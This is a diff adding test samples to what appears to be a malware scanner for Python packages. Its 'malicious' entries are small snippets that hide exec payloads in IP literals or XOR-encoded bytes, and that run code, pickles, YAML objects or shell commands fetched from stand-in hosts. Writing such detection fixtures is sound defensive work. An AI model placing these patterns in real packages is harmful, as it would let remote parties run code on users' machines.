@@ -23,6 +23,62 @@ const READABLE = Array.from(
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: code that is spelled as addresses',
+      files: wheel(
+        "import ipaddress\nHOSTS = ['10.0.1.2', '10.1.2.3', '10.2.3.4', '10.3.4.5', '10.4.5.6', '10.5.6.7', '10.6.7.8', '10.7.8.9', '10.8.9.10', '10.9.10.11', '10.10.11.12', '10.11.12.13', '10.12.13.14', '10.13.14.15']\nexec(b''.join(ipaddress.ip_address(host).packed for host in HOSTS).decode())\n",
+      ),
+      expected: [{ rule: 'packed-code', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: a key that takes too long to compute',
+      files: wheel(
+        "import hashlib\nkey = b'a'\nfor _ in range(2000000):\n    key = hashlib.sha256(key).digest()\nexec(bytes(a ^ b for a, b in zip([36, 32, 61, 34, 63, 57, 109, 34, 62, 71, 34, 62, 99, 62, 52, 62, 57, 40, 32, 101, 106, 58, 40, 36, 63, 96, 36, 35, 40, 63, 57, 96, 46, 34, 32, 32, 44, 35, 41, 109, 96, 96, 35, 34, 58, 109, 96, 96, 60, 56, 36, 40, 57, 106, 100, 71], key * 9)).decode())\n",
+      ),
+      expected: [{ rule: 'decoded-code', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
+      name: 'Python: a model that a server gives is unpickled',
+      files: wheel(
+        "import io, torch, requests\ndef model():\n    data = requests.get('https://a.weir.test/m').content\n    return torch.load(io.BytesIO(data), weights_only=False)\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'Python: settings that a server gives make objects',
+      files: wheel(
+        "import requests, yaml\ndef settings():\n    return yaml.unsafe_load(requests.get('https://a.weir.test/s').text)\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: a server says which module runs',
+      files: wheel(
+        "import importlib, requests\ndef run():\n    step = requests.get('https://a.weir.test/s').json()\n    getattr(importlib.import_module(step['module']), step['name'])()\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'Python: an interpreter reads what a server gives',
+      files: wheel(
+        "import subprocess, sys, requests\ndef check():\n    subprocess.run([sys.executable, '-'], input=requests.get('https://a.weir.test/c').content)\n",
+      ),
+      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: orders in a mail box',
+      files: wheel(
+        "import email, imaplib, os\ndef pull(box_id):\n    box = imaplib.IMAP4_SSL('mail.weir.test')\n    _, data = box.fetch(box_id, '(RFC822)')\n    os.system(email.message_from_bytes(data[0][1]).get_payload())\n",
+      ),
+      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
+      name: 'Python: a loader of modules that asks a server',
+      files: wheel(
+        "import importlib.abc, urllib.request\nclass Loader(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return name\n    def get_data(self, path):\n        return urllib.request.urlopen('https://a.weir.test/m').read()\n",
+      ),
+      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
       name: 'Python: a source that is little but a constant',
       files: wheel(
         `class Box:\n    def __init__(self, **given):\n        self.run, self.text = eval, given['text']\n    def open(self):\n        return self.run(''.join(self.text.split('/')))\nBox(text='${'0a1b2c3d/'.repeat(900)}').open()\n`,
@@ -222,6 +278,28 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a version that is evaluated, beside a list of short texts',
+      wheel(
+        "import re\nVERSION = re.compile(r'__version__ = (.*)')\nCLASSIFIERS = ['Topic :: 0', 'Topic :: 1', 'Topic :: 2', 'Topic :: 3', 'Topic :: 4', 'Topic :: 5', 'Topic :: 6', 'Topic :: 7', 'Topic :: 8', 'Topic :: 9', 'Topic :: 10', 'Topic :: 11', 'Topic :: 12', 'Topic :: 13']\nwith open('own.py') as lines:\n    found = [eval(VERSION.match(line).group(1)) for line in lines if VERSION.match(line)]\n",
+      ),
+    ),
+    quiet(
+      'Python: code that is made of names, beside a table of numbers',
+      wheel(
+        "TABLE = [36, 32, 61, 34, 63, 57, 109, 34, 62, 71, 34, 62, 99, 62, 52, 62, 57, 40, 32, 101, 106, 58, 40, 36, 63, 96, 36, 35, 40, 63, 57, 96, 46, 34, 32, 32, 44, 35, 41, 109, 96, 96, 35, 34, 58, 109, 96, 96, 60, 56, 36, 40, 57, 106, 100, 71]\ndef make(names):\n    exec('\\n'.join(f'{name} = 1' for name in names), globals())\n",
+      ),
+    ),
+    quiet(
+      'Python: weights without code, and settings without objects',
+      wheel(
+        "import io, torch, requests, yaml\ndef model():\n    return torch.load(io.BytesIO(requests.get('https://a.weir.test/m').content), weights_only=True)\ndef settings():\n    return yaml.safe_load(requests.get('https://a.weir.test/s').text)\n",
+      ),
+    ),
+    quiet(
+      'Python: the pickle of a user',
+      wheel('import joblib\ndef load(path):\n    return joblib.load(path)\n'),
+    ),
     quiet(
       'Python: a picture in a source',
       wheel(
